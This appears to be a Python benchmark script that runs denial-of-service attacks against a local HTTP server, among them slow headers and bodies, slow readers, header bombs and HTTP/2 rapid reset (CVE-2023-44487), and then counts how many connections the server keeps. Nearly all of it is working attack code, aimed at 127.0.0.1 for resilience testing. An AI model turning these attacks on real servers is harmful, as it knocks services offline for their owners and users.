"""
Attacks on an HTTP server, each as a program of its own: ``python3 -m bench.attack NAME PORT [TLS_PORT]``. It says
``ready`` when all of it is under way, goes on until its standard input ends, and then says as JSON how many of its
connections the server still has.
"""

from __future__ import annotations

import asyncio
import itertools
import json
import ssl
import sys
from collections.abc import Awaitable, Callable

from support import http2

HOST = "127.0.0.1"
CLIENTS = 1600
HEADER = b"Host: www.example.com\r\n"
SLOW = 8.0  # seconds from one byte to the next


class Attack:
    """Many connections that do the same."""

    def __init__(self, port: int, clients: int = CLIENTS, tls: ssl.SSLContext | None = None) -> None:
        self.port, self.clients, self.tls = port, clients, tls
        self.open, self.refused = 0, 0
        self._tasks: list[asyncio.Task] = []

    async def begin(self, talk: Callable[[asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]) -> None:
        gate = asyncio.Semaphore(200)
        await asyncio.gather(*(self._connect(talk, gate) for _ in range(self.clients)))

    async def _connect(self, talk, gate: asyncio.Semaphore) -> None:
        async with gate:
            try:
                reader, writer = await asyncio.wait_for(
                    asyncio.open_connection(HOST, self.port, ssl=self.tls, limit=1024), 20
                )
            except (OSError, TimeoutError, asyncio.TimeoutError):
                self.refused += 1
                return
        self.open += 1
        self._tasks.append(asyncio.create_task(self._talk(talk, reader, writer)))

    async def _talk(self, talk, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        try:
            await talk(reader, writer)
        except OSError:
            pass
        finally:
            self.open -= 1
            writer.close()


async def _drip(reader: asyncio.StreamReader, writer: asyncio.StreamWriter, part: bytes, seconds: float) -> None:
    """Send a part again and again until the server has had enough."""
    ended = asyncio.create_task(reader.read(1))
    while not ended.done():
        writer.write(part)
        await asyncio.wait([ended], timeout=seconds)


async def slow_bodies(reader, writer) -> None:
    writer.write(b"POST / HTTP/1.1\r\n" + HEADER + b"Content-Length: 15000\r\n\r\n")
    await _drip(reader, writer, b"x", SLOW)


async def slow_large_bodies(reader, writer) -> None:
    """The first 20 kB at once: HAProxy's buffer does not hold that back."""
    writer.write(b"POST / HTTP/1.1\r\n" + HEADER + b"Content-Length: 1000000\r\n\r\n" + bytes(20_000))
    await _drip(reader, writer, b"x", SLOW)


async def slow_headers(reader, writer) -> None:
    writer.write(b"GET / HTTP/1.1\r\n" + HEADER)
    await _drip(reader, writer, b"X-Slow: x\r\n", SLOW)


async def slow_readers(reader, writer) -> None:
    writer.write(b"GET /large HTTP/1.1\r\n" + HEADER + b"\r\n")
    while await reader.read(100):
        await asyncio.sleep(1)


async def idle(reader, writer) -> None:
    await reader.read(1)


async def header_bombs(reader, writer) -> None:
    lines = b"".join(b"X-%d: %s\r\n" % (number, b"x" * 100) for number in range(95))
    while True:
        writer.write(b"GET / HTTP/1.1\r\n" + HEADER + lines + b"\r\n")
        if not await reader.read(65536):
            return
        await asyncio.sleep(1)


_ASKED = [(b":method", b"GET"), (b":scheme", b"http"), (b":path", b"/"), (b":authority", b"www.example.com")]


async def reset_streams(reader, writer) -> None:
    """HTTP/2's rapid reset (CVE-2023-44487): 100 requests that are given up when they are at the server, and again."""
    writer.write(http2.BEGUN)
    ended = asyncio.create_task(_silently(reader))
    for first in itertools.count(1, 200):
        streams = range(first, first + 200, 2)
        for step in (lambda stream: http2.opened(stream, _ASKED), http2.reset):
            writer.write(b"".join(map(step, streams)))
            await writer.drain()
            await asyncio.wait([ended], timeout=0.05)
        if ended.done():
            return


async def unread_streams(reader, writer) -> None:
    """The hold of HTTP/2's bomb (CVE-2026-49975): 100 answers that are not taken."""
    large = [(name, b"/large" if name == b":path" else value) for name, value in _ASKED]
    writer.write(http2.UNREAD + b"".join(http2.opened(stream, large) for stream in range(1, 201, 2)))
    await _silently(reader)


async def _silently(reader: asyncio.StreamReader) -> None:
    while await reader.read(65536):
        pass


ATTACKS: dict[str, tuple[Callable, int, bool]] = {
    "slow bodies": (slow_bodies, CLIENTS, False), "slow large bodies": (slow_large_bodies, CLIENTS, False),
    "slow headers": (slow_headers, CLIENTS, False), "slow readers": (slow_readers, CLIENTS, False),
    "idle TLS": (idle, 3000, True), "header bombs": (header_bombs, 100, False),
    "reset streams": (reset_streams, 10, False), "unread streams": (unread_streams, 150, False),
}  # fmt: skip
"""Each by what one connection does, how many there are, and whether they are by TLS."""


def unverified() -> ssl.SSLContext:
    """The certificate is the test's own."""
    context = ssl.create_default_context()
    context.check_hostname = False
    context.verify_mode = ssl.CERT_NONE
    return context


async def main(name: str, port: int, tls_port: int) -> None:
    talk, clients, by_tls = ATTACKS[name]
    attack = Attack(tls_port if by_tls else port, clients, unverified() if by_tls else None)
    await attack.begin(talk)
    print("ready", flush=True)
    await asyncio.get_running_loop().run_in_executor(None, sys.stdin.read)
    print(json.dumps({"open": attack.open, "refused": attack.refused}), flush=True)


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], int(sys.argv[2]), int(sys.argv[3])))
